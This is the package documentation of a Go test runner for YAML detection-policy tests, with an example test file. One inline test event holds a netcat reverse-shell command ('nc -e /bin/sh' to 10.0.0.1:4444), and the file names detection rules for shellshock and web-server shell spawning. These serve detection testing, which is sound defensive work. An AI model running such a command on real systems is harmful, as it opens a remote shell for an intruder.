// Package policytest runs policy unit tests written in YAML: each test names
// the policies to load, gives the input (a trace file, or inline events as
// flat-event field values) and the expected alerts (rule names per record,
// or counts per rule). `sfconnector policy test FILE...` calls Run.
//
// A test file:
//
//	policies: [../rules]          # files or directories, relative to this file;
//	                              # "default" is the bundled set; Sigma rules
//	                              # are recognised by their content
//	sigma_config: ../sigma.yml    # optional: the Sigma field mapping (also per test)
//	tests:
//	  - name: reverse shell with netcat
//	    events:                   # inline events (see NewEvent)
//	      - {sf.opflags: EXEC, sf.proc.exe: /usr/bin/nc, sf.proc.args: -e /bin/sh 10.0.0.1 4444}
//	      - {sf.opflags: EXEC, sf.proc.exe: /bin/ls}
//	    expect:                   # per event, the rules that match it, in any order
//	      - [Netcat with command execution]
//	      - []
//	  - name: shellshock trace
//	    policies: [default]       # a test may load other policies
//	    trace: ${SFCONNECTOR_SHARED}/traces/shellshock.sf   # environment variables expand
//	    counts:                   # per rule, how many records it matches
//	      Shell spawned by a web server or database: 1
//	    alerted: 3                # records matching at least one rule (optional)
//
// Records go through the drop filters first, as in alert mode: a dropped
// record matches nothing. With counts, rules not listed are not checked,
// unless only_listed: true, which requires every other rule to match
// nothing.
package policytest
